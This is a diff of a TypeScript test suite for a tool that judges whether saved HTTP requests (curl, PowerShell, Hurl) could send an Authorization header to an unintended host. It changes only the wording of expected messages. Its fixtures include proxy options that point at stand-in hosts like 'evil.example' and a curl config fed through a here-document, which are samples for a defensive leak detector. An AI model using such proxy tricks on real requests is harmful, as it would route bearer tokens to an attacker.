@@ -101,8 +101,8 @@ describe('who may get the header', () => {
     ['the file’s value', http, `@h = ${acme.origin}\nGET {{h}}/x\n`, /^changed 1$/],
     ['the file’s value of another', http, '@h = https://x.example\nGET {{h}}/x\n', /^stray 1/],
     ['a login endpoint', http, 'POST {{origin}}/{{customer}}/login/token\n', /^login 0$/],
-    ['a proxy', http, `curl ${at}/x --proxy http://p\n`, /^unknown 0: its command has --proxy$/],
-    ['a proxy', posixFormat, `curl ${acme.origin}/x -x http://p\n`, /^unknown 0: its command has -x$/],
+    ['a proxy', http, `curl ${at}/x --proxy http://p\n`, /^unknown 0: it has --proxy$/],
+    ['a proxy', posixFormat, `curl ${acme.origin}/x -x http://p\n`, /^unknown 0: it has -x$/],
     ['a file that may hold the header too', posixFormat, 'curl -K request.txt\n', /^elsewhere 0$/],
   ];
   for (const [title, format, text, expected] of variables) {
@@ -186,7 +186,7 @@ describe('who may get the header', () => {
         'an option',
         hurlFormat,
         hurl(`[Options]\n${option}`),
-        /^unknown 0: its options have/,
+        /^unknown 0: it has/,
         /^unknown/,
       ]),
       [
@@ -210,7 +210,7 @@ describe('who may get the header', () => {
         'a proxy below a header with an unusual name',
         hurlFormat,
         hurl(`${line}\n[Options]\nproxy: http://evil.example`),
-        /^unknown 0: its options have proxy$/,
+        /^unknown 0: it has proxy$/,
         /^unknown/,
       ]),
       [
@@ -255,7 +255,7 @@ describe('who may get the header', () => {
           'a line break that curl writes into the head',
           posixFormat,
           `curl ${option} ${url}\n`,
-          /^unknown \d: its command has -\w …$/,
+          /^unknown \d: it has -\w …$/,
           /^unknown/,
         ],
       ),
@@ -335,7 +335,7 @@ describe('who may get the header', () => {
         'a proxy',
         powershellFormat,
         `irm ${url} -Proxy http://evil.example:8080\n`,
-        /^unknown 0: its command has -Proxy/,
+        /^unknown 0: it has -Proxy/,
         /^unknown/,
       ],
       [
@@ -449,7 +449,7 @@ describe('who may get the header', () => {
         'a proxy directly behind a string or a bracket',
         powershellFormat,
         `irm ${url} -Body ${value}-Proxy:http://evil\n`,
-        /^unknown 0: its command has -Proxy$/,
+        /^unknown 0: it has -Proxy$/,
         /^unknown/,
       ]),
       ...['"x".y"a"', '$x.y"a"', '$x[0]/a', '$x.y-z'].map((word): Row => [
@@ -484,7 +484,7 @@ describe('who may get the header', () => {
         'a proxy behind typographic quotes',
         powershellFormat,
         `irm ${url} -OutFile 'x’ -Proxy http://evil -SkipCertificateCheck ‘y'\n`,
-        /^unknown 0: its command has -Proxy$/,
+        /^unknown 0: it has -Proxy$/,
         /^unknown/,
       ],
       [
@@ -685,7 +685,7 @@ describe('who may get the header', () => {
         'another URL behind a redirection, or in quotes that are open for cmd',
         format as RequestFormat,
         `${command as string}\n`,
-        /^unknown 0: its command has several URLs$/,
+        /^unknown 0: it has several URLs$/,
         /^unknown/,
       ]),
       [
@@ -725,7 +725,7 @@ describe('who may get the header', () => {
         'an empty Host header, so that the server chooses the host',
         format as RequestFormat,
         `${text as string}\n`,
-        /^unknown \d: (?:its Host header is empty|its command has -H …)$/,
+        /^unknown \d: (?:its Host header is empty|it has -H …)$/,
         /^unknown/,
       ]),
       [
@@ -895,8 +895,8 @@ describe('who may get the header', () => {
         'options of a variable in quotes',
         posixFormat,
         `curl ${option} ${url}\n`,
-        /^unknown 0: its command has -\S*…$/,
-        /^unknown 0: its command has -\S*…$/,
+        /^unknown 0: it has -\S*…$/,
+        /^unknown 0: it has -\S*…$/,
       ]),
       ...[
         '-o"$f"',
@@ -917,14 +917,14 @@ describe('who may get the header', () => {
         'options of a variable',
         cmdFormat,
         `curl ${option} ${url}\n`,
-        /^unknown 0: its command has -…$/,
-        /^unknown 0: its command has -…$/,
+        /^unknown 0: it has -…$/,
+        /^unknown 0: it has -…$/,
       ]),
       [
         'options of a variable',
         powershellFormat,
         `curl.exe -$env:Y ${url}\n`,
-        /^unknown 0: its command has -…$/,
+        /^unknown 0: it has -…$/,
         /^unknown/,
       ],
       ['options of a variable', http, `@o = kx\ncurl -{{o}} ${url}\n`, /^unknown/, /^unknown/],
@@ -971,7 +971,7 @@ describe('who may get the header', () => {
         'parameters from a variable beside headers',
         powershellFormat,
         `irm ${url} -Headers @{ a = 1 } @p\n`,
-        /^unknown 0: its command has @p$/,
+        /^unknown 0: it has @p$/,
         /^unknown/,
       ],
       ...[`'Ho'+'st'`, '$h', '("Host")', '"$h"'].map((name): Row => [
@@ -1012,7 +1012,7 @@ describe('who may get the header', () => {
         'options in a here-document beside a header',
         posixFormat,
         `curl -H 'Authorization: Bearer x' --config - ${url} <<EOF\nproxy = ${evil}\nEOF\n`,
-        /^unknown 0: its command has --config$/,
+        /^unknown 0: it has --config$/,
         /^unknown/,
       ],
       [
